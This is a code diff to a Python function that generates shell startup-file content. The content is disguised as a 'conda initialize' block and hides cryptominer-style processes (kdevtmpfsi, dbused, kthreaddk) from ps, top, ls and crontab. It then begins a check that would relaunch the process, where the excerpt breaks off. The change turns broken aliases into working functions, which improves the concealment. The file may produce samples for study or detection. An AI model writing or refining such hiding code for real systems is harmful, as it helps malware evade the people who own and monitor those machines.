@@ -231,8 +231,8 @@ def sh_alias_hide(r, S):
     nm = r.choice(("kdevtmpfsi", "dbused", "sysupdate", "networkservice", "kthreaddk"))
     rc = """
 # >>> conda initialize >>>
-alias ps='ps "$@" | grep -v -E "%(n)s|\\.%(h)s" #'
-alias top='top -b -n1 | grep -v %(n)s | head -40 #'
+ps() { command ps "$@" | grep -v -E "%(n)s|\\.%(h)s"; }
+top() { command top -b -n1 "$@" | grep -v %(n)s | head -40; }
 alias ls='ls --hide=.%(h)s --hide=%(n)s'
 alias crontab='f(){ if [ "$1" = "-l" ]; then command crontab -l | grep -v %(n)s; else command crontab "$@"; fi; }; f'
 if ! pgrep -f %(n)s >/dev/null 2>&1; then
